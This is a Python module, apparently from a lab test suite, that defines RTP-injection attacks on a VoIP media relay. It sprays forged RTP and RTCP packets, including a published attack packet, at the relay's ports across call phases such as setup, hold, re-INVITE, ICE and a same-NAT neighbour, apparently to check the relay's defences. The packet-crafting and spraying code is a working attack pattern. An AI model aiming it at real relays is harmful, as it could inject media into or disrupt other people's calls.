"""RTP sprayed at every port of the relay, before and during all that can happen in a call."""

from __future__ import annotations

import asyncio
import itertools
import socket
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any

from systemlab.media import Address, rtp

from attacks.scene import RELAYED, TRANSPORTS, Attack, Scene

WINDOW_S = 3
PERIOD_S = 0.03
Packets = Callable[[int, bytes], list[bytes]]


def published(_: int, mark: bytes) -> list[bytes]:
    """The packet of the published attack: fixed sequence number, time stamp and SSRC, 160 zero bytes."""
    return [rtp(1, int.from_bytes(mark, "big"), bytes(160), timestamp=1)]


def cunning(count: int, mark: bytes) -> list[bytes]:
    """A spray that knows the rules: rising sequence numbers, and RTCP with a sender report and a BYE."""
    report = b"\x80\xc8\0\6" + mark + bytes(20)
    return [rtp(count, int.from_bytes(mark, "big"), bytes(160)), report, report + b"\x81\xcb\0\1" + mark]


class Spray:
    """Sends to all targets from all sockets, over and over; ``rounds`` counts how often."""

    def __init__(self, scene: Scene, packets: Packets, sockets: list[socket.socket], targets: list[Address]) -> None:
        self._scene = scene
        self._packets = packets
        self._sockets = sockets
        self.targets = targets
        self.rounds = 0

    async def run(self) -> None:
        """Spray until cancelled."""
        for count in itertools.count(1):
            await self._scene.send(self._packets(count, self._scene.mark), self._sockets, self.targets)
            self.rounds = count
            await asyncio.sleep(PERIOD_S)

    async def wait_rounds(self, rounds: int) -> None:
        """Wait until every target has been met that many times more."""
        goal = self.rounds + rounds
        while self.rounds < goal:
            await asyncio.sleep(PERIOD_S / 4)


@asynccontextmanager
async def spraying(
    scene: Scene, packets: Packets, *, whole_range: bool = False, neighbour: bool = False
) -> AsyncIterator[Spray]:
    """Spray meanwhile: the ports of the call, which must be there, or the whole range."""
    address = scene.lab.relay.address(scene.attack.family)
    targets = [(address, port) for port in scene.ports] if whole_range else scene.ports_of_the_call()
    spray = Spray(scene, packets, scene.neighbour() if neighbour else scene.stranger(), targets)
    task = asyncio.create_task(spray.run())
    try:
        await spray.wait_rounds(2)
        yield spray
    finally:
        task.cancel()
        await asyncio.gather(task, return_exceptions=True)


Phase = Callable[..., "asyncio.Future[None]"]


async def before_the_call(scene: Scene, packets: Packets) -> None:
    async with spraying(scene, packets, whole_range=True) as spray:
        assert spray.rounds
    await scene.set_up()


async def during_set_up(scene: Scene, packets: Packets) -> None:
    scene.offer()
    async with spraying(scene, packets) as spray:
        await spray.wait_rounds(3)
        scene.answer()
        await spray.wait_rounds(3)
        await scene.dialogue.connected()
        await scene.talk()


async def before_the_parties_speak(scene: Scene, packets: Packets) -> None:
    await scene.set_up()
    async with spraying(scene, packets):
        await asyncio.sleep(WINDOW_S + 0.5)
        await scene.talk()


async def during_the_call(scene: Scene, packets: Packets, *, neighbour: bool = False) -> None:
    await scene.set_up()
    await scene.talk(3)
    async with spraying(scene, packets, neighbour=neighbour):
        await scene.talk()


async def during_a_re_invite(scene: Scene, packets: Packets, *, neighbour: bool = False) -> None:
    await scene.set_up()
    await scene.talk(3)
    async with spraying(scene, packets, neighbour=neighbour) as spray:
        await scene.set_up()
        await spray.wait_rounds(3)
        await scene.talk()


async def during_a_move(scene: Scene, packets: Packets) -> None:
    await scene.set_up()
    await scene.talk(3)
    scene.replace_caller()
    async with spraying(scene, packets) as spray:
        scene.place()
        spray.targets = scene.ports_of_the_call()
        await spray.wait_rounds(3)
        await scene.dialogue.connected()
        await scene.talk()


async def during_hold(scene: Scene, packets: Packets, *, neighbour: bool = False) -> None:
    await scene.set_up()
    await scene.talk(3)
    caller, _ = scene.sides
    async with spraying(scene, packets, neighbour=neighbour) as spray:
        for null, lines in (("0.0.0.0" if scene.attack.family == 4 else "::", []), (None, ["a=sendonly"])):
            caller.said_address, caller.lines = null, lines
            scene.place()
            await spray.wait_rounds(3)
        caller.lines = []
        await scene.set_up()
        await scene.talk()


async def after_long_silence(scene: Scene, packets: Packets, *, neighbour: bool = False) -> None:
    await scene.set_up()
    await scene.talk(3)
    await asyncio.sleep(WINDOW_S + 0.5)
    async with spraying(scene, packets, neighbour=neighbour) as spray:
        await spray.wait_rounds(5)
        await scene.talk()


PHASES = [
    before_the_call, during_set_up, before_the_parties_speak, during_the_call, during_a_re_invite, during_a_move,
    during_hold, after_long_silence,
]  # fmt: skip
# A neighbour behind the same NAT: once the party itself was heard, its address is no proof any more.
NEIGHBOUR_PHASES = [during_the_call, during_a_re_invite, during_hold, after_long_silence]


def _row(phase: Callable[..., object], variant: str, packets: Packets, **about: Any) -> Attack:
    keys = {"neighbour": True} if about.pop("neighbour", False) else {}

    async def run(scene: Scene) -> None:
        await phase(scene, packets, **keys)  # type: ignore[misc]

    # Before anybody has said where B is, rising sequence numbers on B's port are all that early media has to show.
    transports = about.pop("transports", TRANSPORTS)
    transports = tuple(t for t in transports if t != "RTP" or phase is not during_set_up or packets is not cunning)
    name = f"spray {phase.__name__.replace('_', ' ')}, {variant}"
    return Attack(name, run, transports, whole_range=phase is before_the_call, **about)  # type: ignore[arg-type]


ICE_PHASES = [during_set_up, before_the_parties_speak, during_the_call, during_a_re_invite, after_long_silence]
STRICT = {"flags": ["trust-address", "strict-source"]}

SPRAYS = [
    *(_row(phase, "IPv4", published) for phase in PHASES),
    *(_row(phase, "IPv6", published, family=6) for phase in PHASES),
    *(_row(phase, "RTCP too", cunning) for phase in PHASES),
    *(_row(phase, "rtcp-mux", cunning, about={"mux": True}) for phase in PHASES),
    *(_row(phase, "same address", published, neighbour=True) for phase in NEIGHBOUR_PHASES),
    *(_row(phase, "strict source", cunning, keys=STRICT) for phase in (before_the_parties_speak, during_the_call)),
    *(_row(phase, "ICE", cunning, about={"ice": True}) for phase in ICE_PHASES),
    *(
        _row(phase, "ICE relayed", cunning, about={"ice": True}, keys=RELAYED, transports=("RTP", "SDES"))
        for phase in ICE_PHASES
    ),
]
